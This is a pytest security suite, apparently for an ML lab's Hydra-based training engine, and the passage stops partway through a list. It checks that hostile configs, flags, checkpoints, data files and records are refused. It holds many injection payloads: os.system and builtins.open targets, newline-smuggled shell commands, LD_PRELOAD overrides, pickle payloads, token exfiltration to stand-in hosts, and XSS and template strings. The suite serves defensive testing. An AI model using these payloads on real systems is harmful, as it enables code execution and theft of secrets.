"""Over two hundred hostile inputs: none runs anything, sends anything, writes over anything or gives a secret away.

Experiments, folders of configs, run and sweep directories, checkpoints, data, flags, records, journals, texts in what
is shown, secrets, files of a checkout. Each would touch a canary, ask a server, change a file that is guarded, or show
what is private; `test_the_traps_work` shows that the first three notice.
"""

import csv
import gzip
import hashlib
import http.server
import json
import logging
import os
import pickle
import re
import struct
import subprocess
import sys
import threading
import zipfile
from collections.abc import Iterator, Sized
from pathlib import Path
from typing import Any

import polars
import pytest
import torch
import yaml
from compare import main as compare_main
from omegaconf import OmegaConf

from lab.data.mnist import FILES, MNIST
from lab.data.table_file import dims
from lab.engine.analysis.run_record import find_runs
from lab.engine.checkpointing.files import read_checkpoint
from lab.engine.cli.arguments import hydra_arguments
from lab.engine.cli.command import check_command
from lab.engine.cli.errors import report, user_errors
from lab.engine.config.compose import compose
from lab.engine.config.instantiate import instantiate, instantiate_each
from lab.engine.config.security import authorize
from lab.engine.inference.output import write_table
from lab.engine.runs.run import Run
from lab.engine.sweeps.jobs import authorize_jobs
from lab.engine.sweeps.study import open_study
from lab.engine.sweeps.sweep import Sweep
from lab.engine.utils.errors import RunFailed, UserError
from lab.engine.utils.escape import CONTROL
from lab.engine.utils.formats import FORMAT
from lab.engine.utils.git import patch
from lab.engine.utils.paths import ROOT
from lab.engine.utils.redaction import COMMAND_LINE, redact
from tests import chromium
from tests.conftest import SMALL, run_script
from tests.engine.config.test_security import Touch, fill, write
from tests.recorded import record

SECRET = "fake-5b1e9c77aa20"
OPEN = "{_target_: builtins.open, file: CANARY, mode: w}"
LAUNCHER = "hydra: {launcher: {%s}}"
OWN = "hydra/launcher\n{_target_: hydra._internal.core_plugins.basic_launcher.BasicLauncher, %s}"  # of a file beside
FILE = "hydra: {job_logging: {handlers: {file: {%s}}}}"
PROGRESS = "callbacks: {x: {_target_: lab.callbacks.progress.Progress, %s}}"
MIRROR = "defaults: [override /data: mnist]\ndata: {mirrors: ['SERVER/%s']}"

# By kind: an experiment file, what the answer names, and what the command line says beside it
EXPERIMENTS: dict[str, list[tuple[Any, ...]]] = {
    "targets": [
        (f"model: {OPEN}", "builtins.open"),
        (f"data: {OPEN}", "builtins.open"),
        (f"optimizer: {OPEN}", "builtins.open"),
        (f"scheduler: {OPEN}", "builtins.open"),
        (f"callbacks: {{x: {OPEN}}}", "builtins.open"),
        (f"logger: {{x: {OPEN}}}", "builtins.open"),
        (f"trainer: {{plugins: [{OPEN}]}}", "builtins.open"),
        (f"trainer: {{strategy: {OPEN}}}", "builtins.open"),
        (f"model: {{activation: {OPEN}}}", "builtins.open"),
        ("trainer: {_target_: os.system, command: touch CANARY}", "os.system"),
        ("callbacks: {x: {_target_: pickle.load, file: PICKLE}}", "pickle.load"),
        ("callbacks: {x: {_target_: lab.engine.runs.run.subprocess.run}}", "subprocess.run"),
        ("callbacks: {x: {_target_: 'lab.models.LeN\u00ebt'}}", "_target_"),
        ("callbacks: {x: {_target_: 'builtins.\uff4fpen', file: CANARY, mode: w}}", "not allowed"),
        ("callbacks: {x: {_target_: ' builtins.open', file: CANARY, mode: w}}", "not allowed"),
    ],
    "hidden targets": [
        ("callbacks: {x: {_target_: '${oc.env:XDG_TARGET}', file: CANARY, mode: w}}", "not allowed"),
        ("callbacks: {x: {_target_: 'builtins.${oc.decode:open}', file: CANARY, mode: w}}", "not allowed"),
        (f"evil: {OPEN}\ncallbacks: {{x: '${{evil}}'}}", "builtins.open"),
        (f"evil: {{x: {OPEN}}}\ncallbacks: '${{evil}}'", "builtins.open"),
        ("callbacks: {x: '${oc.create:{_target_:builtins.open,file:CANARY,mode:w}}'}", "builtins.open"),
        (PROGRESS % r"interval: '\${oc.create:{_target_:builtins.open,file:CANARY,mode:w}}'", "interval"),
        (PROGRESS % f"interval: [[{{a: {OPEN}}}]]", "builtins.open"),
    ],
    "tricks of instantiation": [
        (PROGRESS % f"_args_: [{OPEN}]", "builtins.open"),
        (PROGRESS % f"_recursive_: false, interval: {OPEN}", "builtins.open"),
        (PROGRESS % f"_convert_: object, interval: {OPEN}", "builtins.open"),
        ("callbacks: {x: {_target_: builtins.open, _partial_: true, file: CANARY, mode: w}}", "builtins.open"),
        ("callbacks: {x: {_target_: functools.partial, _args_: [os.system, touch CANARY]}}", "functools.partial"),
        (f"callbacks: {{x: {{_target_: hydra.utils.call, config: {OPEN}, _recursive_: false}}}}", "hydra.utils.call"),
        ("callbacks: {x: {_target_: hydra.utils.get_method, path: antigravity}}", "get_method"),
        ("callbacks: {x: {_target_: lab.models.lenet.LeNet.load_from_checkpoint, checkpoint_path: PICKLE}}", "LeNet"),
    ],
    "what hydra builds": [
        (f"hydra: {{callbacks: {{x: {OPEN}}}}}", "hydra.callbacks.x"),
        ("hydra: {callbacks: {x: {_target_: hydra.experimental.callbacks.PickleJobInfoCallback}}}", "hydra.callbacks"),
        (f"evil: {OPEN}\nhydra: {{callbacks: {{x: '${{evil}}'}}}}", "hydra.callbacks.x"),
        ("hydra: {callbacks: {x: {_target_: '${oc.env:XDG_TARGET}'}}}", "hydra.callbacks.x"),
        (LAUNCHER % "_target_: builtins.open", "hydra.launcher"),
        (OWN % f"x: [{OPEN}]", "hydra.launcher"),
        ("hydra: {sweeper: {_target_: builtins.open}}", "hydra.sweeper", "-m", "seed=0,1"),
        ("hydra: {sweeper: {_target_: hydra_plugins.grid_sweeper.os.system}}", "hydra.sweeper", "-m", "seed=0,1"),
        (f"hydra: {{sweeper: {{params: {{x: {OPEN}}}}}}}", "hydra.sweeper", "-m", "seed=0,1"),
        ("defaults: [override /hydra/sweeper: basic]", "hydra/sweeper=grid", "-m", "seed=0,1"),
        ("seed: 1", "hydra/sweeper=grid", "-m", "seed=0,1", "hydra/sweeper=basic"),
    ],
    "logging": [
        ("hydra: {job_logging: {handlers: {x: {(): builtins.open, file: CANARY, mode: w}}}}", "job_logging"),
        ("hydra: {hydra_logging: {handlers: {x: {class: logging.FileHandler, filename: CANARY}}}}", "hydra_logging"),
        ("hydra: {job_logging: {handlers: {x: {class: logging.handlers.SocketHandler, host: h}}}}", "job_logging"),
        ("hydra: {job_logging: {filters: {redact: {(): logging.Filter}}}}", "job_logging.filters"),
        (FILE % "filters: []", "job_logging.handlers.file.filters"),
        (FILE % "filename: GUARDED/train.log, mode: w", "filename"),
        (FILE % "filename: '${hydra.runtime.output_dir}/../../guarded/x.log'", "filename"),
        ("hydra: {job_logging: {handlers: {console: {stream: ext://antigravity}}}}", "stream"),
        ("hydra: {job_logging: {formatters: {file: {.: {converter: x}}}}}", "formatters"),
        ("evil: {version: 1, root: null}\nhydra: {job_logging: '${evil}'}", "job_logging"),
    ],
    "environment": [
        ("hydra: {job: {env_set: {LD_PRELOAD: CANARY}}}", "env_set.LD_PRELOAD"),
        ("hydra: {job: {env_set: {PYTHONPATH: FOLDER}}}", "env_set.PYTHONPATH"),
        ("hydra: {job: {env_set: {NCCL_NET_PLUGIN: CANARY}}}", "env_set.NCCL_NET_PLUGIN"),
        ("hydra: {job: {env_set: {GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: core.fsmonitor}}}", "env_set"),
        ("hydra: {job: {env_set: '${evil}'}}\nevil: {LD_PRELOAD: CANARY}", "env_set"),
        ("hydra: {job: {env_copy: [LAB_FAKE_TOKEN]}}", "env_copy"),
        ("hydra: {job: {env_copy: [LAB_FAKE_URL]}}", "LAB_FAKE_URL"),
    ],
    "places": [
        ("hydra: {run: {dir: GUARDED}}", "hydra.run.dir"),
        ("hydra: {run: {dir: '${paths.log_dir}/runs/../../guarded'}}", "hydra.run.dir"),
        ("hydra: {run: {dir: src}}", "hydra.run.dir"),
        ("hydra: {sweep: {dir: GUARDED}}", "hydra.sweep.dir", "-m", "seed=0,1"),
        ("hydra: {sweep: {subdir: ../../../guarded}}", "hydra.sweep.subdir", "-m", "seed=0,1"),
        ("hydra: {output_subdir: ../../guarded}", "hydra.output_subdir"),
        ("seed: 1", "hydra.output_subdir", "hydra.output_subdir=configs"),
        ("hydra: {job: {name: ../../guarded/train}}", "hydra.job.name"),
        ("sweep: {name: ../../../../guarded/x}", "sweep.name", "-m", "seed=0,1"),
        ("paths: {run_dir: GUARDED}", "paths.run_dir"),
        ("callbacks: {checkpoint: {dirpath: GUARDED/checkpoints}}", "callbacks.checkpoint.dirpath"),
        ("callbacks: {checkpoint: {dirpath: '${paths.run_dir}/../../guarded'}}", "callbacks.checkpoint.dirpath"),
        ("evil: {dirpath: GUARDED}\ncallbacks: {checkpoint: {dirpath: '${evil.dirpath}'}}", "dirpath"),
        ("logger: {tensorboard: {save_dir: GUARDED}}", "logger.tensorboard.save_dir"),
        ("trainer: {default_root_dir: GUARDED}", "trainer.default_root_dir"),
        (
            "trainer: {profiler: {_target_: pytorch_lightning.profilers.SimpleProfiler, dirpath: GUARDED}}",
            "trainer.profiler.dirpath",
        ),
    ],
    "control characters": [
        *(
            (LAUNCHER % f'partition: "{text}"', "launcher.partition", "-m", "seed=0,1", "hydra/launcher=submitit_slurm")
            for text in [
                r"a\ntouch CANARY",
                *(rf"a{code}b" for code in (r"\r", r"\0", r"\x1b", r"\x85", r"\u2028", r"\u202e")),
            ]
        ),
        (OWN % r'"k\ntouch CANARY": 1', "hydra.launcher", "-m", "seed=0,1"),
        (r'hydra: {job: {name: "a\ntouch CANARY"}}', "control"),
        (r'sweep: {name: "a\ntouch CANARY"}', "hydra.sweep.dir", "-m", "seed=0,1"),
        (r'paths: {log_dir: "logs\ntouch CANARY"}', "hydra.run.dir"),
    ],
    "shells of launchers": [
        (LAUNCHER % "setup: [touch CANARY]", "hydra.launcher.setup", "-m", "seed=0,1", "hydra/launcher=submitit_slurm"),
        (OWN % "additional_parameters: {wrap: touch CANARY}", "additional_parameters"),
        (LAUNCHER % "additional_parameters: {wrap: x}", "additional_parameters", "hydra/launcher=submitit_slurm"),
        (OWN % "python: CANARY", "hydra.launcher.python"),
        (LAUNCHER % "submitit_folder: GUARDED", "submitit_folder", "hydra/launcher=submitit_local"),
        (LAUNCHER % "temp_folder: GUARDED", "temp_folder", "hydra/launcher=joblib"),
        (OWN % "ray: {init: {address: 'ray://evil:1'}}", "address"),
        (OWN % "ray: {init: {runtime_env: {working_dir: FOLDER}}}", "runtime_env"),
    ],
    "secrets": [
        (MIRROR % "${oc.env:LAB_FAKE_TOKEN}", "data.mirrors"),
        (MIRROR % "${oc.env:LAB_FAKE_URL}", "data.mirrors"),
        (MIRROR % "${oc.env:LAB_${evil}_TOKEN}" + "\nevil: FAKE", "data.mirrors"),
        (MIRROR % "${oc.decode:${oc.env:LAB_FAKE_TOKEN}}", "data.mirrors"),
        (MIRROR % "${evil}" + "\nevil: '${oc.env:LAB_FAKE_TOKEN}'", "LAB_FAKE_TOKEN"),
        (MIRROR % "${oc.select:evil,x}" + "\nevil: '${oc.env:LAB_FAKE_TOKEN}'", "LAB_FAKE_TOKEN"),
        # typed for something else, which a file passes on
        (MIRROR % "${oc.env:LAB_FAKE_TOKEN}", "data.mirrors", "+logger.tensorboard.comment='${oc.env:LAB_FAKE_TOKEN}'"),
        (MIRROR % "${logger.tensorboard.comment}", "mirrors", "+logger.tensorboard.comment='${oc.env:LAB_FAKE_TOKEN}'"),
        ("callbacks: {checkpoint: {dirpath: 's3://evil/${oc.env:LAB_FAKE_TOKEN}'}}", "callbacks.checkpoint.dirpath"),
        ("logger: {tensorboard: {comment: '${oc.env:LAB_FAKE_TOKEN}'}}", "logger.tensorboard.comment"),
        ("paths: {data_dir: '/tmp/${oc.env:LAB_FAKE_TOKEN}'}", "data_dir"),
        ("hydra: {sweeper: {params: {seed: '${oc.env:LAB_FAKE_TOKEN}'}}}", "hydra.sweeper", "-m"),
        (OWN % "comment: '${oc.env:LAB_FAKE_TOKEN}'", "hydra.launcher.comment"),
    ],
    "addresses of loggers": [
        ("logger: {x: {_target_: pytorch_lightning.loggers.MLFlowLogger, tracking_uri: SERVER}}", "tracking_uri"),
        ("logger: {tensorboard: {settings: {base_url: SERVER}}}", "logger.tensorboard.settings.base_url"),
        ("logger: {tensorboard: {comment: 'sqlite:////tmp/other.db'}}", "logger.tensorboard.comment"),
        ("logger: {tensorboard: {comment: 'SERVER/sqlite:///mlflow.db'}}", "logger.tensorboard.comment"),
        ("logger: {tensorboard: {comment: 'sqlite:////elsewhere.db?x=/mlflow.db'}}", "logger.tensorboard.comment"),
        ("logger: {tensorboard: {sub_dir: ../../elsewhere}}", "logger.tensorboard.sub_dir"),
        ("logger: {tensorboard: {root_dir: /elsewhere}}", "logger.tensorboard.root_dir"),
        ("evil: SERVER\nlogger: {tensorboard: {comment: '${evil}'}}", "logger.tensorboard.comment"),
    ],
    "what cannot be resolved yet": [
        ("logger: {tensorboard: {url: 'SERVER/${ hydra:job.name}'}}", "logger.tensorboard.url"),
        ("callbacks: {checkpoint: {dirpath: 'GUARDED/${ hydra:job.name}'}}", "callbacks.checkpoint.dirpath"),
        (
            MIRROR % "${logger.tensorboard.comment}/${ hydra:job.name}",
            "data.mirrors",
            "+logger.tensorboard.comment='${oc.env:LAB_FAKE_TOKEN}'",
        ),
    ],
    "no yaml": [
        ("evil: !!python/object/apply:builtins.open [CANARY, w]", ""),
        ("evil: !!python/name:os.system", ""),
        ("evil: &a [*a]", ""),
        ("evil: '${nothing:x}'\nhydra: {job: {name: '${evil}'}}", "cannot be resolved"),
        ("defaults: [override /hydra/job_logging: ../../evil]", "job_logging"),
        ("hydra: {searchpath: ['pkg://antigravity']}", "searchpath"),
    ],
}
EXPERIMENT_INPUTS = [
    pytest.param(*case[:2], case[2:], id=f"{kind} {i}", marks=[pytest.mark.slow] if i else [])
    for kind, cases in EXPERIMENTS.items()
    for i, case in enumerate(cases)
]


class Server(http.server.ThreadingHTTPServer):
    """Counts who asks for what."""

    asked: list[str]

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.server_port}"


@pytest.fixture(scope="module")
def server() -> Iterator[Server]:
    class Count(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.asked.append(self.path)
            self.send_error(404)

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002
            pass

    with Server(("127.0.0.1", 0), Count) as found:
        found.asked = []
        thread = threading.Thread(target=found.serve_forever)
        thread.start()
        yield found
        found.shutdown()
        thread.join()


@pytest.fixture
def place(tmp_path: Path, server: Server, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A folder with a run that is guarded, secrets in the environment, a pickle, and traps that must not snap."""
    guarded = tmp_path / "guarded"
    for name in ("run.json", ".hydra/config.yaml", "checkpoints/best.ckpt", "train.log", "config.yaml"):
        (guarded / name).parent.mkdir(parents=True, exist_ok=True)
        (guarded / name).write_text("{}")
    (tmp_path / "evil.pt").write_bytes(pickle.dumps(Touch(tmp_path / "canary")))
    monkeypatch.setenv("LAB_FAKE_TOKEN", SECRET)
    monkeypatch.setenv("LAB_FAKE_URL", f"db://{SECRET[::-1]}")
    monkeypatch.setenv("XDG_TARGET", "builtins.open")  # which any file may read
    monkeypatch.setenv(COMMAND_LINE, "[]")
    monkeypatch.setenv("HYDRA_FULL_ERROR", "1")
    monkeypatch.delenv("MNIST_MIRROR", raising=False)
    monkeypatch.setattr("lab.engine.utils.redaction._interpolated", {})
    before = digests(guarded)
    yield tmp_path
    assert not (tmp_path / "canary").exists(), "hostile code has run"
    assert digests(guarded) == before, "what was there is no longer as it was"
    assert server.asked == [], "somebody was told"


def digests(folder: Path) -> dict[str, str]:
    files = (path for path in folder.rglob("*") if path.is_file())
    return {str(path): hashlib.sha256(path.read_bytes()).hexdigest() for path in files}


def filled(text: str, place: Path, server: Server) -> str:
    made: str = fill(text, place)
    return made.replace("GUARDED", str(place / "guarded")).replace("SERVER", server.address)


def act(*words: str) -> None:
    """What `src/train.py` does up to training, as far as nothing stops it: it judges, and builds."""
    sys.argv[1:] = words
    with user_errors():
        arguments = hydra_arguments(words, {})
        check_command(arguments)
        if "-m" in words or any(word.startswith(("resume=", "attach=", "sweep.resume=")) for word in words):
            return
        config = compose([word for word in arguments if not word.startswith("-")])
        config.paths.run_dir = f"{config.paths.log_dir}/run"
        data = instantiate(config.data)
        instantiate_each(config.callbacks)
        instantiate(config.model, **({"optimizer": None} if config.optimizer is None else {}))
        instantiate_each(config.logger)
        if isinstance(data, MNIST):
            data.prepare_data()


def assert_refused(said: str, words: list[str], capsys: pytest.CaptureFixture[str], monkeypatch: Any) -> None:
    monkeypatch.setattr(sys, "argv", ["train.py"])
    with pytest.raises(SystemExit) as ended:
        act(*words)
    shown = capsys.readouterr().err
    assert ended.value.code == 2, shown
    assert said in shown
    assert SECRET not in shown
    assert "Traceback" not in shown


def test_there_are_two_hundred_of_twenty_kinds() -> None:
    kinds: list[Sized] = [*EXPERIMENTS.values(), SAVED, FLAGS, DATA, TABLES, CHECKPOINTS]
    kinds += [RECORDS, JOURNALS, TEXTS, SECRETS, PRIVATE_FILES, PRIVATE_LINES]
    assert sum(map(len, kinds)) >= 200
    assert len(kinds) >= 20


@pytest.mark.parametrize(("experiment", "said", "words"), EXPERIMENT_INPUTS)
def test_a_hostile_experiment_is_refused(
    experiment: str, said: str, words: tuple[str, ...], place: Path, server: Server,
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    write(place, filled(experiment, place, server))
    paths = [f"paths.{name}={place}/{name}" for name in ("log_dir", "data_dir") if f"{name}:" not in experiment]
    data = [] if experiment.startswith("defaults: [override /data") or "data: {_t" in experiment else SMALL
    command = [*words, f"hydra.searchpath=[file://{place}]", "experiment=evil", *paths, *data]
    assert_refused(said, command, capsys, monkeypatch)
    assert not (place / "log_dir").exists()


def test_the_traps_work(place: Path, server: Server, monkeypatch: pytest.MonkeyPatch) -> None:
    """What is refused above does its harm where nobody stands in its way; what the command line says is done."""
    mirror = f"data.mirrors=['{server.address}/${{oc.env:LAB_FAKE_TOKEN}}']"
    monkeypatch.setattr(sys, "argv", ["train.py"])
    with pytest.raises(SystemExit) as ended:
        act("data=mnist", mirror, f"paths.data_dir={place}/data", f"paths.log_dir={place}/logs")
    assert ended.value.code == 1
    assert [path for path in server.asked if SECRET in path], "the server does not notice"
    server.asked.clear()
    with (place / "evil.pt").open("rb") as file:
        pickle.load(file).close()
    (place / "canary").unlink()
    before = digests(place / "guarded")
    (place / "guarded" / "train.log").write_text("x")
    assert digests(place / "guarded") != before
    (place / "guarded" / "train.log").write_text("{}")


# What a run has saved, and what the answer names
SAVED: list[tuple[dict[str, Any], str]] = [
    ({"callbacks.x": {"_target_": "builtins.open", "file": "CANARY", "mode": "w"}}, "builtins.open"),
    ({"callbacks.checkpoint.dirpath": "GUARDED/checkpoints"}, "callbacks.checkpoint.dirpath"),
    ({"data.mirrors": ["SERVER/${oc.env:LAB_FAKE_TOKEN}"]}, "LAB_FAKE_TOKEN"),
    ({"logger.tensorboard.save_dir": "GUARDED"}, "logger.tensorboard.save_dir"),
    ({"trainer.default_root_dir": "GUARDED"}, "trainer.default_root_dir"),
    ({"model._target_": "os.system"}, "os.system"),
    ({"logger.tensorboard.comment": "${oc.env:LAB_FAKE_TOKEN}"}, "logger.tensorboard.comment"),
    ({"logger.tensorboard.url": "SERVER"}, "logger.tensorboard.url"),
]


@pytest.fixture
def run(place: Path) -> Run:
    """A run that was stopped, as it may come from elsewhere."""
    directory = place / "run"
    for folder in (".hydra", "checkpoints"):
        (directory / folder).mkdir(parents=True)
    OmegaConf.save(compose([*SMALL, f"paths.log_dir={place}/logs"]), directory / ".hydra" / "config.yaml")
    (directory / ".hydra" / "hydra.yaml").write_text("hydra: {runtime: {choices: {data: digits, model: lenet}}}\n")
    (directory / ".hydra" / "overrides.yaml").write_text("[]\n")
    (directory / "run.json").write_text(json.dumps({"format": FORMAT, "status": "preempted"}))
    torch.save({"state_dict": {}, "format": FORMAT}, directory / "checkpoints" / "last.ckpt")
    return Run(directory)


@pytest.mark.parametrize("argument", ["resume", "attach"])
@pytest.mark.parametrize(
    ("content", "said"),
    [pytest.param(*case, marks=[pytest.mark.slow] if i > 2 else []) for i, case in enumerate(SAVED)],
)
def test_a_hostile_run_directory_is_data(
    argument: str, content: dict[str, Any], said: str, run: Run, place: Path, server: Server,
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    config = run.saved
    for key, value in content.items():
        OmegaConf.update(config, key, filled_tree(value, place, server), force_add=True)
    OmegaConf.save(config, run.dir / ".hydra" / "config.yaml")
    assert_refused(said, [f"{argument}={run.dir}"], capsys, monkeypatch)


@pytest.mark.parametrize("name", [".hydra/config.yaml", ".hydra/hydra.yaml", ".hydra/overrides.yaml"])
def test_tags_of_python_build_nothing(name: str, run: Run, place: Path) -> None:
    for tag in ("object/apply:builtins.open [CANARY, w]", "object/new:os.system [touch CANARY]", "name:os.system"):
        (run.dir / name).write_text(f"hydra: !!python/{fill(tag, place)}\n")
        with pytest.raises(UserError, match="is damaged: could not determine a constructor"):
            _ = (run.saved, run.choices, run.overrides)


def test_a_hostile_sweep_directory_is_data(
    place: Path, server: Server, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """What its jobs are given is judged as what a file says, not as what was typed."""
    sweep = place / "sweep"
    sweep.mkdir()
    good = {"format": FORMAT, "sweeper": "grid", "launcher": {}, "hydra": {"sweeper": {"params": {}}}}
    for override, said in [
        (f"--experimental-rerun={place}/evil.pt", "rerun"),
        ("hydra.launcher.setup=[touch CANARY]", "hydra.launcher.setup"),
        ("+hydra.callbacks.x={_target_:builtins.open}", "hydra.callbacks"),
        ("hydra/job_logging=evil", "job_logging"),
        ("+callbacks.x={_target_:builtins.open,file:CANARY,mode:w}", "builtins.open"),
        ("callbacks.checkpoint.dirpath=GUARDED", "callbacks.checkpoint.dirpath"),
        ("logger.tensorboard.save_dir=GUARDED", "logger.tensorboard.save_dir"),
        ("paths.run_dir=GUARDED", "paths.run_dir"),
        ("+logger.tensorboard.comment=${oc.env:LAB_FAKE_TOKEN}", "LAB_FAKE_TOKEN"),
    ]:
        record = good | {"overrides": [filled(override, place, server), "seed=0,1"]}
        (sweep / "sweep.json").write_text(json.dumps(record))
        monkeypatch.setenv(COMMAND_LINE, "[]")
        assert_refused(said, [f"sweep.resume={sweep}", f"paths.log_dir={place}/logs"], capsys, monkeypatch)


def test_a_search_space_s_values_are_those_of_a_file(place: Path, server: Server) -> None:
    config = compose([], hydra=True)
    typed = [["callbacks.checkpoint.every_n_steps=1"], [f"callbacks.checkpoint.dirpath={place}/guarded"]]
    with pytest.raises(UserError, match=r"callbacks\.checkpoint\.dirpath"):
        authorize_jobs(config, typed)


def filled_tree(value: Any, place: Path, server: Server) -> Any:
    if isinstance(value, dict):
        return {key: filled_tree(one, place, server) for key, one in value.items()}
    if isinstance(value, list):
        return [filled_tree(one, place, server) for one in value]
    return filled(value, place, server)


FLAGS = [
    ["--experimental-rerun", "PICKLE"],
    ["--exp", "PICKLE"],
    ["--experimental-rerun=PICKLE", "-m"],
    ["--config-path", "/nowhere"],
    ["--config-name", "../../evil"],
    ["hydra.job_logging.handlers.x={class:logging.FileHandler,filename:CANARY}"],
    ["resume=FOLDER/guarded", "--experimental-rerun=PICKLE"],
    ["hydra.launcher._target_=builtins.open"],
    ["+hydra.callbacks.x={_target_:builtins.open,file:CANARY,mode:w}"],
    ["data=../../guarded/config"],
    ["hydra.run.dir=FOLDER/guarded"],
]


@pytest.mark.parametrize("words", FLAGS, ids=" ".join)
def test_a_hostile_command_line_is_refused(
    words: list[str], place: Path, server: Server, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    assert_refused("", [filled(word, place, server) for word in words], capsys, monkeypatch)


def idx(count: int, *sizes: int) -> bytes:
    return struct.pack(f">BBBB{len(sizes)}i", 0, 0, 8, count, *sizes)


DATA = {
    "a bomb": gzip.compress(bytes(1 << 24)),
    "cut short": gzip.compress(idx(3, 60000, 28, 28) + bytes(99))[:-9],
    "a wrong magic": gzip.compress(b"\x00\x00\x08\xff" + bytes(1020)),
    "negative sizes": gzip.compress(idx(3, -1, -28, 28)),
    "no gzip": b"#!/bin/sh\ntouch CANARY\n",
    "a pickle": b"\x80\x04cbuiltins\nopen\n",
}


@pytest.mark.parametrize("content", DATA.values(), ids=DATA)
def test_hostile_images_are_not_unpacked(content: bytes, place: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Of a file whose checksum is another nothing is read, packed or not."""
    mirror = place / "mirror"
    raw = place / "data" / "MNIST" / "raw"
    for folder in (mirror, raw):
        folder.mkdir(parents=True)
        for name in FILES:
            (folder / f"{name}.gz").write_bytes(content)
            (folder / name).write_bytes(content)
    with pytest.raises(RunFailed, match="wrong checksum"):
        MNIST(str(place / "data"), [mirror.as_uri()], batch_size=1).prepare_data()


TABLES = {
    "empty": b"",
    "a null byte": b"a,b\n\0,1\n",
    "no rows": b"a,b\n",
    "a path for a name": b"../../guarded/x,b\n",
    "a pickle": pickle.dumps(OmegaConf.create({"a": 1})),
    "a target that a config would follow": b"${oc.env:LAB_FAKE_TOKEN},b\n",
}


@pytest.mark.parametrize("content", TABLES.values(), ids=TABLES)
def test_a_hostile_table_is_data(content: bytes, place: Path) -> None:
    path = place / "table.csv"
    path.write_bytes(content)
    with pytest.raises(UserError):
        dims(path, "b", "auto", [])


CHECKPOINTS = ["weights", "hyper_parameters", "callbacks", "optimizer_states", "plain", "no archive", "another archive"]


@pytest.mark.parametrize("kind", CHECKPOINTS)
def test_a_hostile_checkpoint_is_refused(kind: str, place: Path) -> None:
    path, evil = place / "best.ckpt", Touch(place / "canary")
    if kind == "plain":
        path.write_bytes(pickle.dumps(evil))
    elif kind == "no archive":
        torch.save({"state_dict": evil}, path, _use_new_zipfile_serialization=False)
    elif kind == "another archive":
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("../../guarded/train.log", "x")
            archive.writestr("a/data.pkl", pickle.dumps(evil))
    else:
        torch.save({"format": FORMAT, "state_dict": {}, kind: evil}, path)
    with pytest.raises((UserError, RuntimeError)):
        read_checkpoint(path)


NESTED = "[" * 100_000
# A file of a run or a sweep, and what it holds
RECORDS = [
    *(
        (name, text)
        for name in ("run.json", "metrics.json", "../sweep.json")
        for text in ("", "{", "[1]", "null", NESTED)
    ),
    *(("run.json", text) for text in ('{"status": [1]}', '{"seed": {}}', '{"started": 5}', '{"resumed": [3]}')),
    *(("run.json", text) for text in ('{"git": "x"}', '{"resumed": [{"argv": 1}]}', '{"versions": []}', '"\udc80"')),
    *(("metrics.json", text) for text in ('{"a": "x"}', '{"a": true}', '{"a": null}', '{"a": 1' + "0" * 400 + "}")),
    *(("../sweep.json", text) for text in ('{"hydra": []}', '{"objectives": [1]}', '{"launcher": 3}', '{"space": 1}')),
    *((".hydra/config.yaml", text) for text in ("a: [", "- 1", "seed: {}", "trainer: 3", "objective: x", NESTED)),
    *((".hydra/overrides.yaml", text) for text in ("a: 1", "!!python/name:os.system", "\0")),
]
RECORD_IDS = [f"{name} {text[:30]!a}" for name, text in RECORDS]


@pytest.mark.parametrize(("name", "text"), RECORDS, ids=RECORD_IDS)
def test_a_damaged_record_is_named_and_its_neighbours_are_read(
    name: str, text: str, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    damaged, good = (record(tmp_path / folder / "0", metrics={"val/acc": 0.5}) for folder in "ab")
    path = damaged / name
    path.write_bytes(text.encode(errors="surrogatepass"))
    with pytest.raises(UserError, match=rf"^{re.escape(str(path.resolve()))} is damaged: .+\nmend it") as told:
        find_runs([str(damaged)])
    assert len(str(told.value)) < 600
    assert [run.dir for run in find_runs([str(tmp_path)])] == [good]
    assert f"left out: {path.resolve()} is damaged" in caplog.text
    if name == "run.json":
        assert [run.dir for run in Run.list(tmp_path)] == [good]
        with pytest.raises(UserError, match="is damaged"):
            Run.open(damaged)


def test_a_pipe_is_no_record(tmp_path: Path) -> None:
    run = record(tmp_path / "0", metrics={"val/acc": 0.5})
    (run / "metrics.json").unlink()
    os.mkfifo(run / "metrics.json")
    assert Run(run).metrics == {}


def test_a_damaged_sweep_blocks_no_other(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    for number, text in enumerate(("", '{"started": "2026-11-22"}', '{"started": 1}')):
        (tmp_path / "sweeps" / "day" / str(number)).mkdir(parents=True)
        (tmp_path / "sweeps" / "day" / str(number) / "sweep.json").write_text(text)
    assert Sweep.open("latest", tmp_path).dir == tmp_path / "sweeps" / "day" / "1"
    assert caplog.text.count("left out: ") == 2
    with pytest.raises(UserError, match=r"0/sweep\.json is damaged: Expecting value"):
        _ = Sweep.open(tmp_path / "sweeps" / "day" / "0").metadata


JOURNALS = [
    "[1]", "null", '"x"', "{}", '{"op_code": 99, "worker_id": "w"}', '{"op_code": 0}', '{"op_code": 4}',
    '{"op_code": 0, "worker_id": 1, "study_name": "s"}', "{", "\udc80", NESTED, "\0" * 99,
]  # fmt: skip


@pytest.mark.parametrize("text", JOURNALS, ids=lambda text: ascii(text[:40]))
def test_a_damaged_journal_is_named(text: str, tmp_path: Path) -> None:
    pytest.importorskip("optuna")
    (tmp_path / "study.journal").write_bytes(f"{text}\n".encode(errors="surrogatepass"))
    with pytest.raises(UserError, match=r"study\.journal cannot be read"):
        open_study(tmp_path, ["max"])


# What a run from elsewhere may call its status, its values, its keys, its metrics, its directory
TEXTS = [
    "<img src=SERVER/x.png onerror=console.error('run')>",
    "</script><script>console.error('run');fetch('SERVER')</script>",
    '"><svg onload=console.error(1)>',
    '<a href="javascript:console.error(1)">x</a>',
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "%{customdata}<extra></extra>",
    "[/red]",
